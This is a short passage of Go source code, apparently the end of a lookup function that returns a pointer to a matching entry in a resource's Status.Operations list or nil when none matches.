			return &kc.Status.Operations[i]
		}
	}
	return nil
}
